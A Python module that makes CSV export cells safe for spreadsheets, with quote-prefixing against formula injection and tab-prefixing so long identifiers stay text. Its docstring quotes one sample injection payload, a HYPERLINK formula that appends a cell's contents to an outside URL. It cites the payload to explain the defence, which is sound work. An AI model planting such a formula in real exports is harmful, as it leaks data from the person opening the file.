"""Cells for the CSV files the hall hands to spreadsheets (the report, the ratings export).

A CSV has no types: whatever opens it decides what each cell is, and Excel and LibreOffice
decide in two ways that hurt a government hall.

Formulas (CSV injection, CWE-1236). A cell that begins with = + - @ is taken as a formula,
so a matter, window or staff name such as `=HYPERLINK("http://…"&A1,"登记")` runs on the
manager's machine when the export is opened. OWASP's rule is followed: a text cell that begins
with = + - @, a tab or a carriage return gets a leading single quote, which shows as text in
every spreadsheet. The quote is visible when the file is opened as CSV; that is the accepted
price, and only a name that looks like a formula ever pays it.

Identifiers read as numbers. Excel keeps 15 significant digits, so the 19-digit 办件编号
3301062026112500001 becomes 3.30106E+18 and then 3301062026112500000, and a 工号 007 becomes
7; a code shaped like 1-2 becomes a date. For identifier columns such a value is written with
a leading tab character: a cell that begins with a tab is not a number to the importer, so it
stays text with every digit, and the tab is invisible in the cell. LibreOffice 7.4 was checked
(`--convert-to xlsx`: "\\t3301062026112500001" arrives as that text, the bare digits as
3.3010620261125E+18); for Excel this is the long-standing practice for ID and account numbers
in Chinese exports. The formula trick `="3301…"` was not chosen: it is itself a formula (the
thing the rule above exists to keep out), and a program reading the file gets `="…"` instead of
the number. Only values a spreadsheet would read as a number, date or time get the tab, so an
identifier that already reads as text (A-001, clerk2) is written exactly as stored.

Cells holding a tab, a comma, a semicolon, a quote or a line break are quoted (csv_line), so
the tab stays inside its cell even for an importer that also splits on tabs.

Programs that read these files with a CSV parser should strip one leading tab from identifier
columns, or take the JSON export, which carries the raw values.
"""

from __future__ import annotations

import re

#: What makes a spreadsheet read a cell as a formula (OWASP CSV Injection; tab and CR because
#: some importers drop leading whitespace before they look).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Values a spreadsheet turns into a number, date or time: digits with only the signs, points,
#: separators and exponents that numbers and dates are written with (\d includes full-width ０-９).
_NUMBER_LIKE = re.compile(r"[\d\s+\-.,:/%eE]*\d[\d\s+\-.,:/%eE]*")


def text_cell(value: object) -> object:
    """A cell as written to CSV: text that would start a formula gets a leading '.

    Numbers pass through unchanged: a count or a minute figure is meant to be a number, and
    a negative one is not a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def id_cell(value: object) -> object:
    """An identifier cell (办件编号, 工号, 事项编码): kept as text when opened in a spreadsheet.

    The formula rule applies first, so what follows the tab never starts a formula even for
    an importer that strips the tab.
    """
    value = text_cell(value)
    if isinstance(value, int) and not isinstance(value, bool):
        value = str(value)
    if isinstance(value, str) and _NUMBER_LIKE.fullmatch(value):
        return "\t" + value
    return value


def row_cells(values: tuple | list, id_columns: frozenset[int] = frozenset()) -> list[object]:
    """One row's cells: id_cell for the columns at `id_columns`, text_cell for the rest."""
    return [id_cell(v) if i in id_columns else text_cell(v) for i, v in enumerate(values)]


#: A cell holding any of these is quoted. Beyond RFC 4180's comma, quote and line breaks: the
#: tab, because an importer set to split on tabs as well (LibreOffice offers it) would cut a
#: tab-led identifier off into a cell of its own and read the digits as a number again; and the
#: semicolon, the separator where the list separator is ";", which would make "x;=1+2" a formula.
_QUOTE_IF = re.compile(r'[,;"\t\r\n]')


def csv_line(values: tuple | list, id_columns: frozenset[int] = frozenset()) -> str:
    """One CSV line (CRLF, as csv.writer writes it) with the cells made safe by row_cells.

    Written here rather than by csv.writer because csv.writer will only quote a cell for a
    comma, a quote or a line break, not for the leading tab an identifier cell carries.
    """
    out = []
    for cell in row_cells(values, id_columns):
        text = "" if cell is None else str(cell)
        out.append('"' + text.replace('"', '""') + '"' if _QUOTE_IF.search(text) else text)
    return ",".join(out) + "\r\n"
